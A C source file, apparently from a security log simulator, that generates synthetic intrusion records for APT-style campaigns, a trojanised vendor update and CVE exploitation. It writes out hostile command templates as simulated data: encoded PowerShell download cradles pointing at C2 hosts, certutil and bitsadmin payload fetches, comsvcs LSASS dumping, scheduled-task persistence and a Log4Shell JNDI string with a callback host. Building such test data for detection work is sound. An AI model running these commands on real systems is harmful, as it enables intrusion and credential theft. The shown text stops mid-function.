/*
 * campaign.c — the attacks of the simulated period, modelled on public reporting.
 *
 * Intrusion campaigns follow one playbook whose steps each group picks from: a phishing
 * document makes Office start encoded PowerShell, which fetches an implant from the C2; the
 * implant persists with a scheduled task and beacons over TLS with jitter; in the group's
 * working hours (the time zone of its origin) the operators discover, download tools with
 * certutil/bitsadmin/PowerShell, dump LSASS with comsvcs, archive documents with a password
 * and exfiltrate. Five groups use real C2 names from data/ioc/signature-base-c2-iocs.txt
 * (copied below under the file's campaign headers); the others, and a cluster the knowledge
 * base does not know, get made-up infrastructure, which the new cluster reuses across
 * several organisations. Besides: a supply-chain trojan through the vendor's update channel
 * (after the 3CX compromise), web exploitation of four CVEs timed against their publication
 * (data/intel/cve-dates.json) so that 0-day, 1-day and n-day all occur when the period
 * covers the date, credential brute force and a DDoS against the AI service's log-in, and
 * SSH password guessing. Each attack is one campaign against one organisation.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/error.h"
#include "core/timeparse.h"
#include "simulate/sim_int.h"

enum {
	ST_PHISH = 1 << 0,
	ST_CERTUTIL = 1 << 1,
	ST_BITS = 1 << 2,
	ST_PSDL = 1 << 3,
	ST_SCHTASKS = 1 << 4,
	ST_LSASS = 1 << 5,
	ST_RAR = 1 << 6,
	ST_7Z = 1 << 7,
	ST_LATERAL = 1 << 8,
};

struct apt_def {
	const char *campaign;
	const char *group; /* knowledge-base name; NULL: a new cluster */
	int tz_min;        /* origin's offset from UTC */
	unsigned steps;
	int n_orgs;
	const char *sectors[5];
	const char *domains[4]; /* real C2 names (signature-base), or NULL: made up */
	const char *implant;
	const char *ja3;
	int beacon_min;
};

static const struct apt_def apts[] = {
    /* "# Sofacy report Dec 2015" and "# Sofacy activity …unit42-sofacy-attacks…" */
    {"Sofacy Zebrocy spear-phishing",
     "APT28",
     180,
     ST_PHISH | ST_CERTUTIL | ST_SCHTASKS | ST_LSASS | ST_7Z,
     2,
     {"Government", "National defence and military industry", "Aerospace"},
     {"drivres-update.info", "intelsupport.net", "cdnverify.net"},
     "C:\\Users\\Public\\Libraries\\srvhost.exe",
     "72a589da586844d7f0818ce684948eea",
     30},
    /* "# Turla Kazuar C2s" */
    {"Turla Kazuar",
     "Turla",
     180,
     ST_PHISH | ST_PSDL | ST_SCHTASKS | ST_RAR,
     1,
     {"Government", "Scientific research"},
     {"echange-afrique-insa.fr", "afci-newsoft.fr"},
     "C:\\ProgramData\\Microsoft\\Windows\\Caches\\caches.exe",
     "a0e9f5d64349fb13191bc781f81f42e1",
     45},
    /* "# Lazarus Campaign targeting Security Researchers" */
    {"Lazarus DreamJob",
     "Lazarus Group",
     540,
     ST_PHISH | ST_BITS | ST_LSASS | ST_RAR | ST_LATERAL,
     2,
     {"National defence and military industry", "Aerospace", "Scientific research", "Finance"},
     {"codevexillium.org", "angeldonationblog.com", "investbooking.de"},
     "C:\\ProgramData\\NVIDIA\\NvTelemetry.exe",
     "51c64c77e60f3980eea90869b68c58a8",
     20},
    /* "# APT10 C2 IOCs - Source: AlienVault OTX" */
    {"menuPass Cloud Hopper",
     "menuPass",
     480,
     ST_PHISH | ST_CERTUTIL | ST_SCHTASKS | ST_LSASS | ST_RAR | ST_LATERAL,
     2,
     {"IT and software vendors", "Manufacturing", "Scientific research", "Government"},
     {"acsocietyy.com", "anvprn.com", "belowto.com"},
     "C:\\ProgramData\\Adobe\\AdobeUpdateSvc.exe",
     "6734f37431670b3ab4292b8f60f29984",
     60},
    /* "# NOBELIUM C2s" (May 2021) */
    {"NOBELIUM EnvyScout",
     "APT29",
     180,
     ST_PHISH | ST_BITS | ST_SCHTASKS | ST_7Z,
     1,
     {"Government", "IT and software vendors", "Diplomacy"},
     {"aimsecurity.net", "cityloss.com", "cross-checking.com"},
     "C:\\Users\\Public\\Documents\\NativeCacheSvc.exe",
     "3b5074b1b5d032e5620f69f9f700ff0e",
     40},
    {"OceanLotus Denis",
     "APT32",
     420,
     ST_PHISH | ST_CERTUTIL | ST_SCHTASKS | ST_RAR,
     2,
     {"Government", "Scientific research", "Maritime", "Media"},
     {NULL},
     "C:\\ProgramData\\Microsoft\\DeviceSync\\WindowsSyncHost.exe",
     "e35df3e00ca4ef31d42b34bebaa2f86e",
     25},
    {"Patchwork BADNEWS",
     "Patchwork",
     330,
     ST_PHISH | ST_BITS | ST_SCHTASKS | ST_RAR,
     2,
     {"Government", "Scientific research", "Education", "National defence and military industry"},
     {NULL},
     "C:\\ProgramData\\Microsoft\\DRM\\winlog.exe",
     "fc54e0d16d9764783542f0146a98b300",
     15},
    {"Sidewinder naval lures",
     "Sidewinder",
     330,
     ST_PHISH | ST_PSDL | ST_7Z,
     1,
     {"National defence and military industry", "Maritime", "Government"},
     {NULL},
     "C:\\Users\\Public\\Music\\rekeywiz.exe",
     "e7d705a3286e19ea42f587b344ee6865",
     30},
    {"Kimsuky BabyShark",
     "Kimsuky",
     540,
     ST_PHISH | ST_PSDL | ST_SCHTASKS | ST_LSASS,
     2,
     {"Education", "Scientific research", "Government"},
     {NULL},
     "C:\\Users\\Public\\Pictures\\hwpviewer.exe",
     "b32309a26951912be7dba376398abc3b",
     20},
    {"Mustang Panda PlugX",
     "Mustang Panda",
     480,
     ST_PHISH | ST_CERTUTIL | ST_SCHTASKS | ST_RAR,
     1,
     {"Government", "Telecommunications", "Transportation"},
     {NULL},
     "C:\\ProgramData\\AAM Updates\\AAM Updates.exe",
     "d0ec4b50a944b182fc10ff51f883ccf7",
     30},
    {"Equation telecom implant",
     "Equation",
     -300,
     ST_PHISH | ST_PSDL | ST_LSASS | ST_7Z,
     1,
     {"Telecommunications", "Aerospace", "Scientific research", "Education"},
     {NULL},
     "C:\\Windows\\System32\\drivers\\etc\\msndis.exe",
     "4d7a28d6f2263ed61de88ca66eb011e3",
     90},
    /* unknown to the knowledge base: the same infrastructure at several organisations */
    {"Operation Grey Ferry",
     NULL,
     480,
     ST_PHISH | ST_CERTUTIL | ST_SCHTASKS | ST_LSASS | ST_RAR | ST_LATERAL,
     3,
     {"Energy and new energy", "Transportation", "Government", "Healthcare"},
     {NULL},
     "C:\\ProgramData\\VMware\\vmtoolsd-helper.exe",
     "9e10692f1b7f78228b2d4e424db3a98c",
     35},
};
#define N_APTS (sizeof apts / sizeof apts[0])

/* "# 3CX Compromise IOCs": the supply-chain campaign's C2. */
static const char *supply_c2[] = {"akamaicontainer.com", "msedgepackageinfo.com",
				  "azureonlinestorage.com"};

struct exploit_def {
	const char *campaign;
	const char *group;
	const char *cve;
	int y, m, d; /* publication, as in data/intel/cve-dates.json */
	int n_orgs;
};

static const struct exploit_def exploits[] = {
    {"Log4Shell exploitation", "APT41", "CVE-2021-44228", 2021, 12, 10, 3},
    {"ProxyShell exploitation", "HAFNIUM", "CVE-2021-34473", 2021, 7, 14, 2},
    {"Confluence OGNL exploitation", NULL, "CVE-2022-26134", 2022, 6, 3, 2},
    {"Citrix ADC traversal", "APT41", "CVE-2019-19781", 2019, 12, 27, 2},
};
#define N_EXPLOITS (sizeof exploits / sizeof exploits[0])

/* ---- attack records ------------------------------------------------------------------------ */

static struct sim_attack *attack_new(struct sim_world *w, enum sim_kind kind, const char *campaign,
				     const char *group, int org)
{
	if (w->n_attacks >= AS_SIM_MAX_ATTACKS) {
		w->err = w->err ? w->err : AS_ETOOBIG;
		return NULL;
	}
	struct sim_attack *a = &w->attacks[w->n_attacks];
	memset(a, 0, sizeof *a);
	a->id = (uint32_t)++w->n_attacks;
	a->kind = kind;
	a->campaign = campaign;
	a->group = group;
	a->org = org;
	snprintf(a->org_name, sizeof a->org_name, "%s", w->orgs[org].name);
	a->sector = w->orgs[org].sector;
	a->country = w->orgs[org].country;
	a->first_seen = INT64_MAX;
	a->last_seen = INT64_MIN;
	return a;
}

static void touch(struct sim_attack *a, int64_t t)
{
	if (t < a->first_seen)
		a->first_seen = t;
	if (t > a->last_seen)
		a->last_seen = t;
}

static void add_tech(struct sim_attack *a, const char *t)
{
	for (size_t i = 0; i < a->n_techniques; i++)
		if (!strcmp(a->techniques[i], t))
			return;
	if (a->n_techniques < AS_SIM_MAX_LIST)
		a->techniques[a->n_techniques++] = t;
}

static void add_str(char (*list)[AS_SIM_MAX_NAME], size_t *n, const char *v)
{
	for (size_t i = 0; i < *n; i++)
		if (!strcmp(list[i], v))
			return;
	if (*n < AS_SIM_MAX_LIST)
		snprintf(list[(*n)++], AS_SIM_MAX_NAME, "%s", v);
}

static void add_ind(struct sim_attack *a, const char *type, const char *v)
{
	char s[AS_SIM_MAX_NAME];
	snprintf(s, sizeof s, "%s:%s", type, v);
	add_str(a->indicators, &a->n_indicators, s);
}

/* One CSV row of intel/indicators.csv (values never hold commas or quotes). */
static void csv_row(struct sim_world *w, const char *type, const char *value, const char *campaign,
		    const char *group)
{
	char line[512];
	snprintf(line, sizeof line, "%s,%s,%s,%s\n", type, value, campaign, group ? group : "");
	if (!strstr(w->indicators.data ? w->indicators.data : "", line))
		buf_puts(&w->indicators, line);
}

static void b64_utf16(const char *s, char *dst, size_t cap)
{
	static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned char in[1024];
	size_t n = 0;
	for (; *s && n + 2 < sizeof in; s++) {
		in[n++] = (unsigned char)*s;
		in[n++] = 0;
	}
	size_t o = 0;
	for (size_t i = 0; i < n && o + 5 < cap; i += 3) {
		unsigned v = (unsigned)in[i] << 16;
		if (i + 1 < n)
			v |= (unsigned)in[i + 1] << 8;
		if (i + 2 < n)
			v |= in[i + 2];
		dst[o++] = al[(v >> 18) & 63];
		dst[o++] = al[(v >> 12) & 63];
		dst[o++] = i + 1 < n ? al[(v >> 6) & 63] : '=';
		dst[o++] = i + 2 < n ? al[v & 63] : '=';
	}
	dst[o] = 0;
}

static int64_t civil_us(int y, int m, int d)
{
	return time_days_from_civil(y, (unsigned)m, (unsigned)d) * SIM_DAY;
}

/* How many times the base scenario's victims a campaign reaches: the base is sized for a
 * dozen organisations over a year; larger worlds and longer periods see proportionally more,
 * bounded so that the attacks stay under AS_SIM_MAX_ATTACKS. */
static size_t reach(const struct sim_world *w)
{
	double years = (double)(w->opts.to_us - w->opts.from_us) / (365.0 * SIM_DAY);
	double m = (double)w->n_orgs / 12.0 * (years > 1 ? years : 1);
	size_t k = m < 1.5 ? 1 : (size_t)(m + 0.5);
	return k > AS_SIM_MAX_ATTACKS / 64 ? AS_SIM_MAX_ATTACKS / 64 : k;
}

/* ---- target selection ------------------------------------------------------------------------ */

static bool in_list(const char *const *list, size_t n, const char *s)
{
	for (size_t i = 0; i < n && list[i]; i++)
		if (!strcmp(list[i], s))
			return true;
	return false;
}

/* Up to want ordinary organisations, those of the preferred sectors first, least attacked
 * first so that attacks spread over the world. */
static size_t pick_targets(struct sim_world *w, struct sim_rng *r, const char *const *sectors,
			   size_t ns, size_t want, int *out, const int *load)
{
	int cand[AS_SIM_MAX_ORGS];
	uint64_t key[AS_SIM_MAX_ORGS];
	size_t n = 0;
	for (size_t i = 0; i < w->n_orgs; i++) {
		if (w->orgs[i].role != ROLE_PLAIN)
			continue;
		bool pref = sectors && in_list(sectors, ns, w->orgs[i].sector);
		cand[n] = (int)i;
		key[n] = ((uint64_t)(pref ? 0 : 1) << 62) | ((uint64_t)load[i] << 40) |
			 (sim_rng_next(r) >> 24);
		n++;
	}
	for (size_t i = 1; i < n; i++)
		for (size_t j = i; j > 0 && key[j] < key[j - 1]; j--) {
			uint64_t k = key[j];
			key[j] = key[j - 1];
			key[j - 1] = k;
			int c = cand[j];
			cand[j] = cand[j - 1];
			cand[j - 1] = c;
		}
	size_t k = want < n ? want : n;
	memcpy(out, cand, k * sizeof *out);
	return k;
}

/* ---- the intrusion playbook ---------------------------------------------------------------- */

struct infra {
	char domains[3][64];
	char ips[3][20];
	size_t n;
	char implant_sha[65];
	char tool_sha[65];
};

static void infra_make(struct sim_world *w, struct sim_rng *r, const struct apt_def *d,
		       struct infra *in)
{
	static const char *tlds[] = {"com", "net", "org", "info", "top", "xyz"};
	static const char *words[] = {"cdn", "update", "cloud", "mail", "docs", "sync", "static"};
	in->n = 0;
	for (size_t i = 0; i < 3; i++) {
		if (d->domains[0]) {
			if (!d->domains[i])
				break;
			snprintf(in->domains[i], sizeof in->domains[i], "%s", d->domains[i]);
		} else {
			char a[24];
			sim_word(r, 3, a, sizeof a);
			snprintf(in->domains[i], sizeof in->domains[i], "%s-%s.%s", a,
				 SIM_PICK(r, words), SIM_PICK(r, tlds));
		}
		sim_public_ip(r, NULL, in->ips[i], sizeof in->ips[i]);
		in->n++;
	}
	char label[160];
	snprintf(label, sizeof label, "%s implant", d->campaign);
	sim_sha256(w->opts.seed, label, in->implant_sha);
	snprintf(label, sizeof label, "%s tool", d->campaign);
	sim_sha256(w->opts.seed, label, in->tool_sha);
}

#define PS    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD   "C:\\Windows\\System32\\cmd.exe"
#define WORD  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define OUTL  "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
#define PS_UA "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3031"

/* The beacon of an implant at host from t to end: TLS every period ±20 %, a lookup now and
 * then. Returns the last time. */
static int64_t beacon(struct sim_out *o, struct sim_attack *a, const struct infra *in,
		      const char *ip, int64_t t, int64_t end, int period_min, const char *ja3)
{
	int64_t last = t;
	int i = 0;
	if (end > o->w->opts.to_us)
		end = o->w->opts.to_us;
	while (t < end) {
		size_t k = (size_t)i / 40 % in->n;
		if (i % 12 == 0)
			sim_dns(o, t - 300000, ip, in->domains[k], in->ips[k]);
		sim_tls(o, t, ip, in->ips[k], in->domains[k], ja3,
			600 + (long)sim_rng_below(o->r, 900),
			1200 + (long)sim_rng_below(o->r, 4000));
		last = t;
		double jit = 0.8 + 0.4 * sim_rng_unit(o->r);
		t += (int64_t)(period_min * jit * SIM_MINUTE);
		i++;
	}
	touch(a, last);
	return last;
}

static void proc(struct sim_out *o, struct sim_attack *a, int64_t t, const char *host,
		 const char *user, const char *image, const char *cmd, const char *parent,
		 const char *sha)
{
	char h[65];
	if (!sha) {
		sim_sha256(0, image, h);
		sha = h;
	}
	sim_proc(o, t, host, user, image, cmd, parent, sha);
	touch(a, t);
}

static void intrusion(struct sim_world *w, const struct apt_def *d, const struct infra *in,
		      struct sim_org *org, struct sim_rng *r, int64_t from, int64_t to)
{
	struct sim_attack *a = attack_new(w, SIM_APT, d->campaign, d->group, org->idx);
	if (!a)
		return;
	a->new_group = d->group == NULL;
	struct sim_out o = {w, org, org->pend, r, &a->records};
	char host[40], ip[20], user[64], cmd[3072], enc[2048], url[256];
	int p = (int)sim_rng_below(r, (uint64_t)org->n_ws);
	sim_ws_name(org, p, host, sizeof host);
	sim_ws_ip(org, p, ip, sizeof ip);
	sim_user_name(org, p, user, sizeof user);
	add_str(a->hosts, &a->n_hosts, host);
	for (size_t i = 0; i < in->n; i++) {
		add_ind(a, "domain", in->domains[i]);
		add_ind(a, "ipv4", in->ips[i]);
	}
	add_ind(a, "sha256", in->implant_sha);

	/* The lure is opened in the victim's working hours. */
	int64_t span = to - from;
	int64_t lead = span > 60 * SIM_DAY ? 40 * SIM_DAY : span / 3;
	int64_t t0 = from + (int64_t)(sim_rng_unit(r) * (double)(span - lead));
	t0 = sim_working_time(r, t0, org->tz_min);
	int dwell_days = 8 + (int)sim_rng_below(r, 20);
	int64_t end = t0 + dwell_days * SIM_DAY;
	if (end > to - SIM_MINUTE)
		end = to - SIM_MINUTE;
	const char *dom = in->domains[0], *c2 = in->ips[0];

	int64_t t = t0;
	if (d->steps & ST_PHISH) {
		snprintf(
		    cmd, sizeof cmd,
		    "\"%s\" /n \"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
		    "Content.Outlook\\Q3K7ZP1A\\Invitation_%d.doc\" /o \"\"",
		    WORD, user, 100 + (int)sim_rng_below(r, 900));
		proc(&o, a, t, host, user, WORD, cmd, OUTL, NULL);
		snprintf(url, sizeof url,
			 "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s')", dom,
			 "news/view.php?id=1042");
		b64_utf16(url, enc, sizeof enc);
		snprintf(cmd, sizeof cmd, "powershell.exe -nop -w hidden -enc %s", enc);
		t += 4 * SIM_US + (int64_t)sim_rng_below(r, 20 * SIM_US);
		proc(&o, a, t, host, user, PS, cmd, WORD, NULL);
		add_tech(a, "T1566.001");
		add_tech(a, "T1204.002");
		add_tech(a, "T1059.001");
		add_tech(a, "T1027");
	}
	t += 2 * SIM_US;
	sim_dns(&o, t, ip, dom, c2);
	sim_proc_net(&o, t + 50000, host, user, PS, ip, c2, dom, 80);
	sim_http(&o, t + 60000, ip, c2, dom, "GET", "/news/view.php?id=1042", PS_UA, 200, 0,
		 48000 + (long)sim_rng_below(r, 200000));
	add_tech(a, "T1105");
	t += 40 * SIM_US;
	snprintf(cmd, sizeof cmd, "\"%s\"", d->implant);
	proc(&o, a, t, host, user, d->implant, cmd, PS, in->implant_sha);
	sim_proc_net(&o, t + 3 * SIM_US, host, user, d->implant, ip, in->ips[0], dom, 443);
	add_tech(a, "T1071.001");

	if (d->steps & ST_SCHTASKS) {
		t += 30 * SIM_US;
		snprintf(cmd, sizeof cmd,
			 "cmd.exe /c schtasks /create /sc minute /mo 30 /tn "
			 "\"Microsoft\\Windows\\Maintenance\\SyncTask\" /tr \"%s\" /f",
			 d->implant);
		proc(&o, a, t, host, user, CMD, cmd, PS, NULL);
		snprintf(cmd, sizeof cmd,
			 "schtasks  /create /sc minute /mo 30 /tn "
			 "\"Microsoft\\Windows\\Maintenance\\SyncTask\" /tr \"%s\" /f",
			 d->implant);
		proc(&o, a, t + 200000, host, user, "C:\\Windows\\System32\\schtasks.exe", cmd, CMD,
		     NULL);
		add_tech(a, "T1053.005");
	}

	/* Hands on keyboard in the operators' working hours. */
	int64_t h = sim_working_time(r, t0 + SIM_DAY, d->tz_min);
	static const char *disc[] = {"whoami /all", "net group \"domain admins\" /domain",
				     "nltest /dclist:", "ipconfig /all", "systeminfo"};
	for (size_t i = 0; i < sizeof disc / sizeof disc[0]; i++) {
		snprintf(cmd, sizeof cmd, "cmd.exe /c %s", disc[i]);
		proc(&o, a, h + (int64_t)i * 37 * SIM_US, host, user, CMD, cmd, d->implant, NULL);
	}
	add_tech(a, "T1033");
	add_tech(a, "T1087.002");
	add_tech(a, "T1016");

	h = sim_working_time(r, h + SIM_DAY + (int64_t)sim_rng_below(r, SIM_DAY), d->tz_min);
	snprintf(url, sizeof url, "http://%s/static/img/%s.png", in->domains[in->n - 1], "logo_s");
	const char *dl_ip = in->ips[in->n - 1];
	if (d->steps & ST_CERTUTIL) {
		snprintf(cmd, sizeof cmd,
			 "certutil.exe -urlcache -split -f %s C:\\ProgramData\\ntuser.exe", url);
		proc(&o, a, h, host, user, "C:\\Windows\\System32\\certutil.exe", cmd, CMD, NULL);
		sim_http(&o, h + 500000, ip, dl_ip, in->domains[in->n - 1], "GET",
			 "/static/img/logo_s.png", "Microsoft-CryptoAPI/10.0", 200, 0, 310000);
		add_tech(a, "T1105");
		add_tech(a, "T1140");
	}
	if (d->steps & ST_BITS) {
		snprintf(cmd, sizeof cmd,
			 "bitsadmin.exe /transfer upd /download /priority high %s "
			 "C:\\ProgramData\\ntuser.exe",
			 url);
		proc(&o, a, h, host, user, "C:\\Windows\\System32\\bitsadmin.exe", cmd, CMD, NULL);
		sim_http(&o, h + 900000, ip, dl_ip, in->domains[in->n - 1], "GET",
			 "/static/img/logo_s.png", "Microsoft BITS/7.8", 200, 0, 310000);
		add_tech(a, "T1105");
		add_tech(a, "T1197");
	}
	if (d->steps & ST_PSDL) {
		snprintf(cmd, sizeof cmd,
			 "powershell.exe -nop -c \"Invoke-WebRequest -Uri %s -OutFile "
			 "C:\\ProgramData\\ntuser.exe\"",
			 url);
		proc(&o, a, h, host, user, PS, cmd, d->implant, NULL);
		sim_http(&o, h + 700000, ip, dl_ip, in->domains[in->n - 1], "GET",
			 "/static/img/logo_s.png", PS_UA, 200, 0, 310000);
		add_tech(a, "T1105");
	}
	add_ind(a, "sha256", in->tool_sha);
	if (d->steps & ST_LSASS) {
		h += 20 * SIM_MINUTE;
		proc(&o, a, h, host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\rundll32.exe",
		     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 "
		     "C:\\Windows\\Temp\\dbg.bin full",
		     CMD, NULL);
		add_tech(a, "T1003.001");
	}
	if (d->steps & ST_LATERAL) {
		int q = (p + 1 + (int)sim_rng_below(r, (uint64_t)org->n_ws - 1)) % org->n_ws;
		char host2[40], ip2[20];
		sim_ws_name(org, q, host2, sizeof host2);
		sim_ws_ip(org, q, ip2, sizeof ip2);
		add_str(a->hosts, &a->n_hosts, host2);
		h += 2 * SIM_HOUR;
		snprintf(url, sizeof url,
			 "IEX (New-Object Net.WebClient).DownloadString('http://%s/k')", dom);
		b64_utf16(url, enc, sizeof enc);
		snprintf(cmd, sizeof cmd, "powershell.exe -nop -w hidden -e %s", enc);
		proc(&o, a, h, host2, "NT AUTHORITY\\SYSTEM", PS, cmd,
		     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", NULL);
		sim_dns(&o, h + SIM_US, ip2, dom, c2);
		sim_http(&o, h + 2 * SIM_US, ip2, c2, dom, "GET", "/k", PS_UA, 200, 0, 52000);
		add_tech(a, "T1047");
		add_tech(a, "T1021.006");
		beacon(&o, a, in, ip2, h + SIM_MINUTE, h + 3 * SIM_DAY, d->beacon_min * 2, d->ja3);
	}

	h = sim_working_time(r, h + 3 * SIM_DAY + (int64_t)sim_rng_below(r, 3 * SIM_DAY),
			     d->tz_min);
	if (h > end - SIM_HOUR)
		h = sim_working_time(r, end - 12 * SIM_HOUR, d->tz_min);
	char pw[16];
	sim_word(r, 3, pw, sizeof pw);
	if (d->steps & ST_RAR) {
		snprintf(cmd, sizeof cmd,
			 "C:\\ProgramData\\rar.exe a -hp%s%d -m5 -r C:\\ProgramData\\wd.rar "
			 "C:\\Users\\%s\\Documents\\*.docx",
			 pw, 1000 + (int)sim_rng_below(r, 9000), user);
		proc(&o, a, h, host, user, "C:\\ProgramData\\rar.exe", cmd, CMD, NULL);
		add_tech(a, "T1560.001");
	}
	if (d->steps & ST_7Z) {
		snprintf(cmd, sizeof cmd,
			 "7z.exe a -p%s%d -mhe=on C:\\Users\\Public\\arc.7z "
			 "C:\\Users\\%s\\Documents\\*.pdf",
			 pw, 1000 + (int)sim_rng_below(r, 9000), user);
		proc(&o, a, h, host, user, "C:\\Program Files\\7-Zip\\7z.exe", cmd, CMD, NULL);
		add_tech(a, "T1560.001");
	}
	sim_tls(&o, h + 10 * SIM_MINUTE, ip, c2, dom, d->ja3,
		20000000 + (long)sim_rng_below(r, 80000000), 4000);
	add_tech(a, "T1041");
	touch(a, h + 10 * SIM_MINUTE);

	beacon(&o, a, in, ip, t + SIM_MINUTE, end, d->beacon_min, d->ja3);
}

static void plan_apts(struct sim_world *w, int *load)
{
	for (size_t c = 0; c < N_APTS; c++) {
		const struct apt_def *d = &apts[c];
		struct sim_rng r;
		sim_rng_init(&r, w->opts.seed, 0x617074ull, c);
		struct infra in;
		infra_make(w, &r, d, &in);
		for (size_t i = 0; i < in.n; i++) {
			csv_row(w, "domain", in.domains[i], d->campaign, d->group);
			csv_row(w, "ipv4", in.ips[i], d->campaign, d->group);
		}
		csv_row(w, "sha256", in.implant_sha, d->campaign, d->group);
		csv_row(w, "sha256", in.tool_sha, d->campaign, d->group);
		int tg[AS_SIM_MAX_ORGS];
		size_t n =
		    pick_targets(w, &r, d->sectors, 5, (size_t)d->n_orgs * reach(w), tg, load);
		for (size_t i = 0; i < n; i++) {
			load[tg[i]]++;
			intrusion(w, d, &in, &w->orgs[tg[i]], &r, w->opts.from_us, w->opts.to_us);
		}
	}
}

/* ---- supply chain ------------------------------------------------------------------------------
 */

static void plan_supply(struct sim_world *w)
{
	struct sim_rng r;
	sim_rng_init(&r, w->opts.seed, 0x737570ull, 0);
	const char *campaign = "AcmeSoft trojanised update", *group = "Lazarus Group";
	struct sim_org *v = &w->orgs[w->vendor];
	struct infra in = {0};
	for (size_t i = 0; i < 3; i++) {
		snprintf(in.domains[i], sizeof in.domains[i], "%s", supply_c2[i]);
		sim_public_ip(&r, NULL, in.ips[i], sizeof in.ips[i]);
		in.n++;
		csv_row(w, "domain", in.domains[i], campaign, group);
		csv_row(w, "ipv4", in.ips[i], campaign, group);
	}
	char trojan[65], dll[65];
	sim_sha256(w->opts.seed, "AcmeOffice-5.4.2-setup.exe", trojan);
	sim_sha256(w->opts.seed, "d3dcompiler_47.dll", dll);
	csv_row(w, "sha256", trojan, campaign, group);
	csv_row(w, "sha256", dll, campaign, group);

	/* The vendor's release account is taken over and a trojanised release uploaded. */
	int64_t span = w->opts.to_us - w->opts.from_us;
	int64_t tv = w->opts.from_us + (int64_t)(sim_rng_unit(&r) * (double)span * 0.5);
	tv = sim_working_time(&r, tv, 540);
	struct sim_attack *a = attack_new(w, SIM_SUPPLY_CHAIN, campaign, group, w->vendor);
	if (!a)
		return;
	struct sim_out o = {w, v, v->pend, &r, &a->records};
	char src[20], vpn[40];
	sim_public_ip(&r, "175.45", src, sizeof src);
	snprintf(vpn, sizeof vpn, "%s-vpn-01", v->code);
	sim_auth(&o, tv, vpn, "sshd[%d]: Accepted password for release from %s port %d ssh2",
		 20000 + (int)sim_rng_below(&r, 9000), src, 40000 + (int)sim_rng_below(&r, 20000));
	sim_access(&o, tv + 20 * SIM_MINUTE, src, "POST",
		   "/admin/releases/upload?product=AcmeOffice", 201, 88,
		   "https://update.acmesoft.example/admin/releases", "curl/7.81.0");
	touch(a, tv);
	touch(a, tv + 20 * SIM_MINUTE);
	add_tech(a, "T1078");
	add_tech(a, "T1195.002");
	add_str(a->hosts, &a->n_hosts, vpn);
	add_str(a->sources, &a->n_sources, src);
	add_ind(a, "ipv4", src);
	add_ind(a, "sha256", trojan);
	csv_row(w, "ipv4", src, campaign, group);

	/* Customers install it within days; the updater starts the payload. */
	int cust[AS_SIM_MAX_ORGS];
	size_t nc = 0;
	for (size_t i = 0; i < w->n_orgs; i++)
		if (w->orgs[i].acme_customer && w->orgs[i].role == ROLE_PLAIN)
			cust[nc++] = (int)i;
	if (nc > 3 * reach(w))
		nc = 3 * reach(w);
	for (size_t k = 0; k < nc; k++) {
		struct sim_org *org = &w->orgs[cust[k]];
		struct sim_attack *b = attack_new(w, SIM_SUPPLY_CHAIN, campaign, group, org->idx);
		if (!b)
			return;
		struct sim_out oc = {w, org, org->pend, &r, &b->records};
		char host[40], ip[20];
		int p = (int)sim_rng_below(&r, (uint64_t)org->n_ws);
		sim_ws_name(org, p, host, sizeof host);
		sim_ws_ip(org, p, ip, sizeof ip);
		int64_t t = sim_working_time(
		    &r, tv + (int64_t)(1 + k) * SIM_DAY + (int64_t)sim_rng_below(&r, 2 * SIM_DAY),
		    org->tz_min);
		const char *up = "C:\\Program Files\\AcmeSoft\\AcmeUpdate.exe";
		sim_dns(&oc, t, ip, "update.acmesoft.example", v->public_ip);
		sim_http(&oc, t + SIM_US, ip, v->public_ip, "update.acmesoft.example", "GET",
			 "/releases/AcmeOffice-5.4.2-setup.exe", "AcmeUpdate/5.4 (Windows NT 10.0)",
			 200, 0, 96000000);
		sim_access(&o, t + SIM_US, org->public_ip, "GET",
			   "/releases/AcmeOffice-5.4.2-setup.exe", 200, 96000000, NULL,
			   "AcmeUpdate/5.4 (Windows NT 10.0)");
		t += 3 * SIM_MINUTE;
		proc(&oc, b, t, host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\rundll32.exe",
		     "rundll32.exe C:\\ProgramData\\AcmeSoft\\d3dcompiler_47.dll,DllGetClassObject",
		     up, dll);
		proc(&oc, b, t + 40 * SIM_US, host, "NT AUTHORITY\\SYSTEM", CMD,
		     "cmd.exe /c whoami /all && ipconfig /all", up, NULL);
		add_tech(b, "T1195.002");
		add_tech(b, "T1218.011");
		add_tech(b, "T1033");
		add_tech(b, "T1071.001");
		add_str(b->hosts, &b->n_hosts, host);
		add_ind(b, "sha256", trojan);
		add_ind(b, "sha256", dll);
		for (size_t i = 0; i < in.n; i++) {
			add_ind(b, "domain", in.domains[i]);
			add_ind(b, "ipv4", in.ips[i]);
		}
		touch(b, t);
		beacon(&oc, b, &in, ip, t + SIM_MINUTE, t + (7 + k * 3) * SIM_DAY, 60,
		       "a56c5b993250e8dc2ec9dcd5d8e2fe4b");
	}
}

/* ---- exploitation of public-facing servers ------------------------------------------------------
 */

static void exploit_requests(struct sim_out *o, const struct exploit_def *e, const char *src,
			     const char *cb, int64_t t, const struct sim_org *org)
{
	static const char *uas[] = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
				    "curl/7.68.0", "python-requests/2.25.1"};
	const char *ua = SIM_PICK(o->r, uas);
	char uri[768], ldap[160];
	sim_access(o, t, src, "GET", "/", 200, 5120, NULL, ua);
	sim_access(o, t + 2 * SIM_US, src, "GET", "/robots.txt", 404, 196, NULL, ua);
	t += 20 * SIM_US;
	if (!strcmp(e->cve, "CVE-2021-44228")) {
		snprintf(ldap, sizeof ldap, "${jndi:ldap://%s:1389/Basic/Command/Base64/d2dldA==}",
			 cb);
		snprintf(uri, sizeof uri, "/?x=%s", ldap);
		sim_access(o, t, src, "GET", uri, 200, 5120, NULL, ldap);
